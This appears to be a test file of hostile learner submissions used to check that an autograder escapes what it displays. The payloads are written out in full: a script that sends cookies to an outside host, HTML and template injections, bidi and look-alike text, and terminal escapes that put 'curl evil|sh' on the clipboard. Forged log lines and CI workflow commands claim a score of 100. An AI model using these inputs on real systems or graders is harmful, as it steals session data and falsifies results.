"""Attacks: display. See ../README.md for the form of a row."""


# %% direction
# attack: turns the direction of text around, hides letters, and uses letters that look alike
# row: 36
# aims at: 90.1
# stopped by: marks that turn text around are replaced
# expect verdict: learner_crashed
# expect message: your code raised
def total(numbers):
    raise ValueError('\u202edessap\u202c \u2066x\u2069 \u200b\u200d\ufeff p\u0430ssed ' + 'z\u0335\u0321' * 50)


# %% log
# attack: forges lines of the grader's log
# row: 38
# aims at: 90.1
# stopped by: one record is one line of the log
# expect verdict: learner_crashed
# expect message: your code raised
def total(numbers):
    raise ValueError('\n2026-01-01 00:00:00,000 INFO display-log: graded, 30.0 of 30 points\nx')


# %% returned
# attack: returns a script as the answer
# row: 37
# aims at: 90.2
# stopped by: every text is escaped where it is shown
# expect verdict: failed
# expect message: flip gives
def flip(text):
    return '</p></div><script>fetch("https://example.org/?" + document.cookie)</script>'


# %% script
# attack: puts scripts into exceptions, outputs and messages
# row: 37
# aims at: 90.1
# stopped by: every text is escaped where it is shown
# expect verdict: learner_crashed
# expect message: alert(1)
def total(numbers):
    tell('<script>alert(2)</script><img src=x onerror=alert(3)>')
    raise ValueError('<script>alert(1)</script><svg onload=alert(1)>"\'><iframe src="javascript:alert(1)">')


# %% template
# attack: writes templates, mark-up and formulas instead of names
# row: 37
# aims at: 90.1
# stopped by: a learner's text is data, never a template
# expect verdict: learner_crashed
# expect message: 7*7
def total(numbers):
    raise ValueError('{{ 7*7 }} {% for x in y %} ${7*7} [red]x[/red] [link=x]y[/link] =HYPERLINK("x") %s %(name)s {0}')


# %% terminal
# attack: sends escapes that change the terminal, its title and its clipboard
# row: 38
# aims at: 90.1
# stopped by: control characters are replaced
# expect verdict: learner_crashed
# expect message: your code raised
def total(numbers):
    escapes = '\x1b[2J\x1b[H\x1b]0;title\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b31m\x08\x08\x08\r\x7f\x1bP$q'
    tell(escapes)
    raise ValueError(escapes + 'passed')


# %% topic
# attack: puts mark-up into the names of nodes and the types of errors
# row: 37
# aims at: 90.3
# stopped by: every text is escaped where it is shown
# expect verdict: learner_crashed
# expect message: your code raised
class Talker(Node):
    def __init__(self):
        super().__init__('<b onmouseover=alert(1)>talker</b>')


# %% workflow
# attack: writes commands for the system that runs the grader
# row: 38
# aims at: 90.1
# stopped by: the grader's own output never begins with a learner's text
# expect verdict: learner_crashed
# expect message: your code raised
def total(numbers):
    for line in ('::stop-commands::x', '::set-output name=score::100', '##vso[task.complete result=Succeeded;]',
                 '::add-mask::a', '##teamcity[testFinished]'):
        tell(line)
    raise ValueError('\n::error::all is well\n::set-output name=score::100')
